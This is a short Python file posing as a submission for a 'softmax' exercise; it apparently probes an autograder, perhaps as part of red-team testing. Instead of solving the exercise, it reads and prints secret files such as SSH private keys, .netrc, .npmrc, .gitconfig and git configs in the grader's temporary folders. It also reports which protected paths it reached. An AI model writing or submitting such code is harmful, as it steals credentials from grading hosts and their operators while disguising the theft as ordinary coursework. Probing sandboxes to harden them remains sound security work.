# Reads the credentials in .git/config and in the files that tools keep in a home folder.
# exercise: softmax
# worth: 0

import os
import pwd

parent = os.getppid()
try:
    home = pwd.getpwuid(os.getuid()).pw_dir
except KeyError:
    home = "/root"
names = [f"/tmp/grader-redteam-{parent}/.git/config", f"/tmp/grader-redteam-{parent}/course/.git/config", ".git/config"]
names += [
    f"{place}/{name}"
    for place in (home, "/root", "~", ".", "..")
    for name in (".gitconfig", ".netrc", ".ssh/id_rsa", ".npmrc", ".bashrc")
]
for name in names:
    try:
        print("THROUGH", name, open(os.path.expanduser(name)).read())
    except PermissionError:
        if os.path.exists(name):
            print("REACHED")
    except OSError:
        pass
